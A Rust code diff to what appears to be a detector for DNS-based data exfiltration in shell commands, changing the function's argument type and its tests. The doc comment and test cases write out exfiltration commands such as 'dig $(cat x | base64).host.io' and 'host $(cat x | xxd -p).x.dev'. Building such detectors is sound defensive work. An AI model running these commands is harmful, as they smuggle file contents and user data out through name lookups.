@@ -2,6 +2,7 @@
 //!
 //! The line is in lower case.
 
+use super::line::Line;
 use super::parts::parts;
 
 /// What asks a name server.
@@ -12,7 +13,7 @@ const CARRIED: &[&str] = &["base64", "base32", "xxd", "hexdump", "od ", "cat ", 
 const MAX_PLACES: usize = 16;
 
 /// `dig $(cat x | base64).host.io`: data as the name of a host.
-pub(super) fn asked(line: &str) -> Option<usize> {
+pub(super) fn asked(line: Line<'_>) -> Option<usize> {
     let at = parts!(RESOLVERS).first_word(line)?;
     let rest = line.get(at..)?;
     rest.match_indices("$(").take(MAX_PLACES).find_map(|(open, _)| {
@@ -36,12 +37,12 @@ mod tests {
             "nslookup \"$(whoami)\".x.dev",
             "host $(cat x | xxd -p).x.dev",
         ] {
-            assert!(asked(line).is_some(), "{line}");
+            assert!(asked(line.into()).is_some(), "{line}");
         }
         for line in
             ["dig +short x.dev", "dig $(terraform output name).x.dev", "host $(hostname)", "nslookup $(cat hosts.txt)"]
         {
-            assert_eq!(asked(line), None, "{line}");
+            assert_eq!(asked(line.into()), None, "{line}");
         }
     }
 }
